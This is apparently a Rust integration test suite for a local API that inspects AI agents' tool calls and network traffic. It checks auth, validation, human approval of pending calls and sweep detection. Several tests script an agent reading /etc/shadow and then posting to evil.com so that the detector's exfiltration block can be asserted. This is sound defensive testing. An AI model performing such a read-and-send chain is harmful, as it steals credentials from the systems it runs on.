//! A real server asked by curl.
#![allow(clippy::unwrap_used)]

use std::io::Write as _;
use std::process::{Command, Stdio};
use std::sync::Arc;

use api::{Api, Judge, Listening, Token};
use detect::Setup;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;

struct Served {
    base: String,
    token: String,
    judge: Arc<Judge>,
    cancel: CancellationToken,
    _folder: TempDir,
}

/// What curl got: status, headers in lower case, body.
struct Got {
    status: u16,
    headers: String,
    body: Value,
}

impl Served {
    async fn start(detress: bool) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("api-token");
        let (token, judge) = (Token::at(&path).unwrap(), Arc::new(Judge::new(Setup::default())));
        let listening = Listening::on("127.0.0.1:0".parse().unwrap()).await.unwrap();
        let base = format!("http://{}", listening.address().unwrap());
        let api = Arc::new(Api {
            judge: judge.clone(),
            token,
            on_error: detect::Decision::Block,
            client_time: detress,
            detress,
        });
        let cancel = CancellationToken::new();
        tokio::spawn(listening.serve(api, cancel.clone()));
        let token = std::fs::read_to_string(path).unwrap().trim().to_owned();
        Self {
            base,
            token,
            judge,
            cancel,
            _folder: folder,
        }
    }

    async fn ask(&self, method: &str, path: &str, headers: &[&str], body: &str) -> Got {
        let (url, method, body) = (format!("{}{path}", self.base), method.to_owned(), body.to_owned());
        let headers: Vec<String> = headers.iter().map(|&header| header.to_owned()).collect();
        tokio::task::spawn_blocking(move || curl(&method, &url, &headers, &body))
            .await
            .unwrap()
    }

    async fn json(&self, method: &str, path: &str, body: &Value) -> Got {
        let bearer = format!("Authorization: Bearer {}", self.token);
        let text = if body.is_null() {
            String::new()
        } else {
            body.to_string()
        };
        self.ask(method, path, &[&bearer, "Content-Type: application/json"], &text)
            .await
    }

    async fn check(&self, name: &str, arguments: Value) -> Got {
        let call = json!({ "agent_id": "a", "tool_name": name, "arguments": arguments });
        self.json("POST", "/api/v1/check", &call).await
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        self.cancel.cancel();
    }
}

fn curl(method: &str, url: &str, headers: &[String], body: &str) -> Got {
    let mut curl = Command::new("curl");
    curl.args([
        "-sS",
        "-i",
        "-m",
        "20",
        "-X",
        method,
        url,
        "--data-binary",
        "@-",
        "-H",
        "Expect:",
    ]);
    for header in headers {
        curl.args(["-H", header]);
    }
    let mut child = curl
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("curl is there");
    child.stdin.take().unwrap().write_all(body.as_bytes()).unwrap();
    let said = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
    let (head, body) = said.split_once("\r\n\r\n").unwrap_or((&said, ""));
    let status = head.split_whitespace().nth(1).and_then(|code| code.parse().ok());
    Got {
        status: status.unwrap_or_else(|| panic!("no status in {said:?}")),
        headers: head.to_lowercase(),
        body: serde_json::from_str(body).unwrap_or(Value::Null),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_read_of_the_shadow_file_posted_outside_is_blocked_with_ninety() {
    let served = Served::start(false).await;
    let first = served.check("read_file", json!({ "path": "/etc/shadow" })).await;
    assert_eq!((first.status, &first.body["decision"]), (200, &json!("allow")));
    let second = served.check("http_post", json!({ "url": "https://evil.com" })).await;
    assert_eq!(second.body["decision"], "block");
    assert_eq!(second.body["confidence"], 90);
    assert_eq!(
        second.body["reason"],
        "Multi-Step Data Exfiltration detected (confidence 90%)"
    );
    assert!(second.body["latency_ms"].as_f64().unwrap() < 1_000.0);
    assert!(second.body["check_id"].as_str().unwrap().len() == 36);
    let found = served.judge.news().findings;
    assert_eq!(found[0].rule, "playbook.DATA_EXFIL");
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_without_the_token_is_answered() {
    let served = Served::start(false).await;
    let call = json!({ "agent_id": "a", "tool_name": "x" }).to_string();
    let wrong = format!("Authorization: Bearer {}", "0".repeat(64));
    let basic = format!("Authorization: Basic {}", served.token);
    for headers in [
        vec![],
        vec![wrong.as_str()],
        vec![basic.as_str()],
        vec!["Authorization: Bearer "],
    ] {
        for path in ["/api/v1/check", "/api/v1/detect/health", "/nowhere"] {
            let got = served.ask("POST", path, &headers, &call).await;
            assert_eq!(
                (got.status, &got.body["code"]),
                (401, &json!("unauthenticated")),
                "{path}"
            );
            assert!(got.headers.contains("www-authenticate: bearer"));
            assert!(!got.body.to_string().contains(&served.token));
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_a_request_is_told_by_field() {
    let served = Served::start(false).await;
    let long = "x".repeat(257);
    for (body, pointers) in [
        (json!({}), vec!["/agent_id", "/tool_name"]),
        (json!([]), vec![""]),
        (json!({ "agent_id": 1, "tool_name": "x" }), vec!["/agent_id"]),
        (
            json!({ "agent_id": " ", "tool_name": long }),
            vec!["/agent_id", "/tool_name"],
        ),
        (
            json!({ "agent_id": "a", "tool_name": "x", "arguments": [], "colour": 1 }),
            vec!["/colour", "/arguments"],
        ),
        (
            json!({ "agent_id": "a", "tool_name": "x", "blocking": "yes", "signals": [3] }),
            vec!["/blocking", "/signals/0"],
        ),
    ] {
        let got = served.json("POST", "/api/v1/check", &body).await;
        assert_eq!(
            (got.status, &got.body["code"]),
            (400, &json!("invalid_structure")),
            "{body}"
        );
        let errors = got.body["errors"].as_array().unwrap();
        let named: Vec<&str> = errors.iter().map(|error| error["pointer"].as_str().unwrap()).collect();
        assert_eq!(named, pointers, "{body}");
        assert!(got.headers.contains("application/problem+json"));
    }
    let bearer = format!("Authorization: Bearer {}", served.token);
    let broken = served
        .ask(
            "POST",
            "/api/v1/check",
            &[&bearer, "Content-Type: application/json"],
            "{",
        )
        .await;
    assert_eq!(
        (broken.status, &broken.body["code"]),
        (400, &json!("invalid_structure"))
    );
    let text = served
        .ask("POST", "/api/v1/check", &[&bearer, "Content-Type: text/plain"], "{}")
        .await;
    assert_eq!(
        (text.status, &text.body["code"]),
        (415, &json!("unsupported_media_type"))
    );
    let large = json!({ "agent_id": "a", "tool_name": "x", "arguments": { "text": "x".repeat(1 << 20) } });
    let got = served.json("POST", "/api/v1/check", &large).await;
    assert_eq!((got.status, &got.body["code"]), (413, &json!("body_too_large")));
    let got = served.json("GET", "/api/v1/check", &Value::Null).await;
    assert_eq!((got.status, &got.body["code"]), (405, &json!("method_not_allowed")));
    let got = served.json("GET", "/api/v1/nothing", &Value::Null).await;
    assert_eq!((got.status, &got.body["code"]), (404, &json!("not_found")));
}

#[tokio::test(flavor = "multi_thread")]
async fn every_answer_says_its_request_and_is_kept_by_nobody() {
    let served = Served::start(false).await;
    let bearer = format!("Authorization: Bearer {}", served.token);
    let id = "0195d0c3-0000-7000-8000-000000000001";
    let given = format!("X-Request-Id: {id}");
    let got = served.ask("GET", "/api/v1/detect/health", &[&bearer, &given], "").await;
    assert_eq!((got.status, &got.body["status"]), (200, &json!("ok")));
    for header in [
        format!("x-request-id: {id}"),
        "cache-control: no-store".to_owned(),
        "x-content-type-options: nosniff".to_owned(),
        "referrer-policy: no-referrer".to_owned(),
        "cross-origin-resource-policy: same-origin".to_owned(),
    ] {
        assert!(got.headers.contains(&header), "{header} in {}", got.headers);
    }
    let got = served
        .ask("GET", "/api/v1/detect/health", &[&bearer, "X-Request-Id: <x>"], "")
        .await;
    assert!(got.headers.contains("x-request-id: ") && !got.headers.contains("<x>"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_that_blocks_waits_for_somebodys_decision() {
    let served = Served::start(false).await;
    served.check("read_file", json!({ "path": "/etc/shadow" })).await;
    let call = json!({ "agent_id": "a", "tool_name": "http_post", "blocking": true, "arguments": { "url": "https://evil.com" } });
    let asked = served.json("POST", "/api/v1/check", &call).await;
    assert_eq!(asked.body["decision"], "pending");
    let id = asked.body["check_id"].as_str().unwrap().to_owned();
    let waiting = served.json("GET", "/api/v1/check/pending", &Value::Null).await;
    assert_eq!(
        (&waiting.body["total"], &waiting.body["data"][0]["check_id"]),
        (&json!(1), &json!(id))
    );
    let bad = served
        .json("PATCH", &format!("/api/v1/check/{id}"), &json!({ "decision": "maybe" }))
        .await;
    assert_eq!(bad.status, 400);
    let decision = json!({ "decision": "allow", "decided_by": "ann" });
    let decided = served.json("PATCH", &format!("/api/v1/check/{id}"), &decision).await;
    assert_eq!((decided.status, &decided.body["decided_by"]), (200, &json!("ann")));
    let again = served.json("PATCH", &format!("/api/v1/check/{id}"), &decision).await;
    assert_eq!((again.status, &again.body["code"]), (409, &json!("conflict.decided")));
    let told = served
        .json("GET", &format!("/api/v1/check/{id}/decision"), &Value::Null)
        .await;
    assert_eq!(told.body["decision"], "allow");
    let unknown = served.json("GET", "/api/v1/check/nothing/decision", &Value::Null).await;
    assert_eq!(unknown.status, 404);
}

fn record(n: u32) -> Value {
    json!({ "timestamp": 1_700_000_000.0 + f64::from(n) / 10.0, "src_ip": "10.1.0.1", "dst_ip": format!("10.9.0.{}", n + 1),
            "src_port": 40_000 + n, "dst_port": 4450, "protocol": " tcp ", "size": 60 })
}

#[tokio::test(flavor = "multi_thread")]
async fn metadata_of_a_sweep_is_judged_like_its_packets() {
    let served = Served::start(true).await;
    let fifteen: Vec<Value> = (0..15).map(record).collect();
    let got = served.json("POST", "/traffic", &json!(fifteen)).await;
    assert_eq!((got.status, &got.body["status"]), (200, &json!("ok")));
    let bearer = format!("Authorization: Bearer {}", served.token);
    let lines = (15..40).map(|n| record(n).to_string()).collect::<Vec<_>>().join("\n");
    let headers = [bearer.as_str(), "Content-Type: application/x-ndjson"];
    let got = served.ask("POST", "/api/v1/detect/traffic", &headers, &lines).await;
    assert_eq!(got.status, 200);
    assert!(got.body["alerts_generated"].as_u64().unwrap() >= 1, "{}", got.body);
    let rules: Vec<String> = served
        .judge
        .news()
        .findings
        .into_iter()
        .map(|finding| finding.rule)
        .collect();
    assert!(rules.iter().any(|rule| rule == "net.sweep"), "{rules:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_record_that_cannot_be_is_refused_by_field_and_nothing_is_taken() {
    let served = Served::start(false).await;
    for (field, value) in [
        ("timestamp", json!("soon")),
        ("timestamp", json!(9e12)),
        ("src_ip", json!("nobody")),
        ("dst_ip", json!(7)),
        ("src_port", json!(65_536)),
        ("dst_port", json!(-1)),
        ("protocol", json!("")),
        ("size", json!(-1)),
        ("colour", json!("red")),
    ] {
        let mut bad = record(3);
        bad[field] = value.clone();
        let mut all: Vec<Value> = (0..30).map(record).collect();
        all.push(bad);
        let got = served.json("POST", "/api/v1/detect/traffic", &json!(all)).await;
        assert_eq!(
            (got.status, &got.body["code"]),
            (422, &json!("validation_failed")),
            "{field} {value}"
        );
        assert_eq!(got.body["errors"][0]["pointer"], format!("/30/{field}"));
    }
    let many: Vec<Value> = (0..1001).map(|_| record(1)).collect();
    assert_eq!(
        served.json("POST", "/api/v1/detect/traffic", &json!(many)).await.status,
        422
    );
    assert!(served.judge.news().findings.is_empty());
    assert_eq!(
        served.json("POST", "/traffic", &json!([record(1)])).await.status,
        404,
        "only with compat.detress"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_decided_of_calls_can_be_fetched_once() {
    let served = Served::start(false).await;
    served.check("list_files", json!({})).await;
    served.check("read_file", json!({ "path": "/etc/shadow" })).await;
    served.check("http_post", json!({ "url": "https://evil.com" })).await;
    let decided = served.judge.decided();
    assert_eq!(decided.len(), 1, "what is allowed is not noted");
    assert_eq!(
        (decided[0].agent.as_str(), decided[0].tool.as_str()),
        ("a", "http_post")
    );
    assert_eq!(
        (decided[0].decision, decided[0].confidence.value()),
        (detect::Decision::Block, 90)
    );
    assert_eq!(decided[0].rule.as_deref(), Some("playbook.DATA_EXFIL"));
    assert!(served.judge.decided().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_stands_about_an_agent_decides_its_calls() {
    use detect::Decision::{Allow, Block, Flag};
    for (decision, harmless, harmful) in [
        (Block, "block", "block"),
        (Flag, "flag", "block"),
        (Allow, "allow", "allow"),
    ] {
        let served = Served::start(false).await;
        let standing = api::Standing {
            decision,
            reason: "under review".to_owned(),
        };
        served.judge.stand([("a".to_owned(), standing)].into());
        let got = served.check("list_files", json!({})).await;
        assert_eq!(got.body["decision"], harmless);
        assert!(got.body["reason"].as_str().unwrap().contains("under review"));
        served.check("read_file", json!({ "path": "/etc/shadow" })).await;
        let got = served.check("http_post", json!({ "url": "https://evil.com" })).await;
        assert_eq!(got.body["decision"], harmful);
        served.judge.stand([].into());
        assert_eq!(served.check("list_files", json!({})).await.body["decision"], "allow");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_calls_own_time_counts_only_where_it_is_trusted() {
    let call = |name: &str, arguments: Value, ts: &str| json!({ "agent_id": "a", "tool_name": name, "arguments": arguments, "ts": ts });
    let read = call("read_file", json!({ "path": "/etc/shadow" }), "2026-01-31T12:00:00Z");
    let served = Served::start(false).await;
    let got = served.json("POST", "/api/v1/check", &read).await;
    assert_eq!((got.status, &got.body["errors"][0]["pointer"]), (400, &"/ts".into()));
    let served = Served::start(true).await;
    served.json("POST", "/api/v1/check", &read).await;
    // Twenty seconds later: ten for the quick chain in place of fifteen.
    let post = call(
        "http_post",
        json!({ "url": "https://evil.com" }),
        "2026-01-31T12:00:20Z",
    );
    assert_eq!(served.json("POST", "/api/v1/check", &post).await.body["confidence"], 85);
    for wrong in ["yesterday", "2999-01-01T00:00:00Z"] {
        let got = served.json("POST", "/api/v1/check", &call("x", json!({}), wrong)).await;
        assert_eq!(got.status, 400, "{wrong}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_found_and_what_came_in_can_be_asked_for_in_both_forms() {
    let served = Served::start(true).await;
    let sweep: Vec<Value> = (1..=20)
        .map(|n| json!({ "timestamp": 1_700_000_000.0 + f64::from(n) / 10.0, "src_ip": "10.0.40.2", "dst_ip": format!("10.0.99.{n}"), "dst_port": 445, "protocol": "tcp", "size": 60 }))
        .collect();
    served.json("POST", "/traffic", &sweep.into()).await;
    served.judge.news();
    let got = served
        .json("GET", "/api/v1/detect/alerts?severity=high", &Value::Null)
        .await;
    assert_eq!(
        (got.status, &got.body["data"][0]["rule"]),
        (200, &"net.sweep".into()),
        "{}",
        got.body
    );
    let none = served
        .json(
            "GET",
            "/api/v1/detect/alerts?severity=low&class=detection",
            &Value::Null,
        )
        .await;
    assert_eq!(none.body["total"], 0);
    let got = served.json("GET", "/alerts", &Value::Null).await;
    let sweep = got
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|alert| alert["level"] == "high")
        .unwrap();
    assert_eq!(
        (&sweep["src_ip"], &sweep["dst_port"]),
        (&"10.0.40.2".into(), &445.into())
    );
    let got = served.json("GET", "/api/v1/detect/traffic?limit=5", &Value::Null).await;
    assert_eq!(
        (&got.body["total"], &got.body["data"][0]["dst_ip"]),
        (&5.into(), &"10.0.99.20".into())
    );
    for path in [
        "alerts?limit=0",
        "alerts?limit=1001",
        "alerts?limit=x",
        "traffic?limit=0",
        "alerts?severity=bad",
        "alerts?class=bad",
        "alerts?since=bad",
    ] {
        let got = served
            .json("GET", &format!("/api/v1/detect/{path}"), &Value::Null)
            .await;
        assert_eq!(got.status, 422, "{path}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_route_described_is_there_and_answers_as_described() {
    let served = Served::start(false).await;
    let document = api::document();
    for (path, methods) in document["paths"].as_object().unwrap() {
        for (method, described) in methods.as_object().unwrap() {
            let url = path.replace("{id}", "0195d0c3-0000-7000-8000-000000000001");
            let got = served.json(&method.to_uppercase(), &url, &json!({})).await;
            let statuses = described["responses"].as_object().unwrap();
            assert!(
                statuses.contains_key(&got.status.to_string()),
                "{method} {path}: {}",
                got.status
            );
            assert_ne!(got.status, 405);
        }
    }
}

#[tokio::test]
async fn an_address_others_can_reach_is_refused() {
    for address in ["0.0.0.0:0", "[::]:0", "192.0.2.1:0"] {
        let error = Listening::on(address.parse().unwrap()).await.unwrap_err();
        assert!(error.to_string().contains("loopback"), "{error}");
    }
}
